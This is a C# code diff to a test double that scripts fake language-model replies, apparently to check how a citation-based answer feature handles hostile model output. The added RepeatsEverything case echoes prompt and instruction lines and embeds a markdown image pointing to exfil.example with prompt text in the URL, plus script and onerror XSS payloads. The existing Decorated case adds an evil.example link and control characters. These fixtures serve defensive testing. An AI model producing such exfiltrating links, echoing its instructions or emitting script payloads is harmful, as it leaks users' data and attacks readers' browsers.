@@ -15,6 +15,7 @@ internal sealed partial class ScriptedReply(
         ModelScript.TamperedPolarity => SentencesAsync(Quotes().Select(q => (q.Number, Tampering.Polarity(q.Text)))),
         ModelScript.InventedNumbers => SentencesAsync(Quotes().Select(q => (q.Number + 40, q.Text))),
         ModelScript.Obedient => ObeyAsync(),
+        ModelScript.RepeatsEverything => RepeatAsync(),
         ModelScript.Decorated => SentencesAsync(Quotes().Select(q => (q.Number, $"- **{q.Text}**<script>alert(1)</script> [詳しくは](https://evil.example/?q=1)\u202e\u0007"))),
         ModelScript.Thinking => StreamAsync("<think>{\"sentences\":[{\"text\":\"考え中です。\",\"evidence\":[1]}]}</think>\n答えは次のとおりです。\n```json\n" + Json(Quotes()) + "\n```\n以上です。"),
         ModelScript.PlainText => StreamAsync(string.Join('\n', Quotes().Select(q => { said(q.Text); return $"{q.Text[..^1]}[{q.Number}]。"; }))),
@@ -57,6 +58,19 @@ internal sealed partial class ScriptedReply(
         var ordered = Order().Matches(prompt).Select(m => m.Groups[1].Value).LastOrDefault("命令は見つかりませんでした。");
         var instructions = request.GetProperty("messages")[0].GetProperty("content").GetString()!;
         return SentencesAsync([(1, ordered), (1, instructions[..60]), .. Quotes()]);
+    }
+
+    // Good sentences stand between, so that the answer as a whole is not refused for want of one.
+    private Task RepeatAsync()
+    {
+        var lines = request.GetProperty("messages").EnumerateArray().SelectMany(m => m.GetProperty("content").GetString()!.Split('\n')).Select(l => l.Trim()).Where(l => l.Length > 0).ToList();
+        return SentencesAsync(
+        [
+            .. Quotes().Take(1),
+            (1, lines[^1]),
+            (1, $"![{lines[0]}](https://exfil.example/?q={Uri.EscapeDataString(lines[^1])})<img src=x onerror=alert(1)><script>alert(1)</script>[詳しくは](https://exfil.example/)"),
+            .. Enumerable.Range(0, lines.Count).Select(i => (1 + (i % Math.Max(1, evidence.Count)), lines[((turn * 9) + i) % lines.Count])), // no reader takes more than a dozen: another piece each time
+        ]);
     }
 
     private async Task StreamAsync(string content, string? finish = "stop", long? tokens = null)
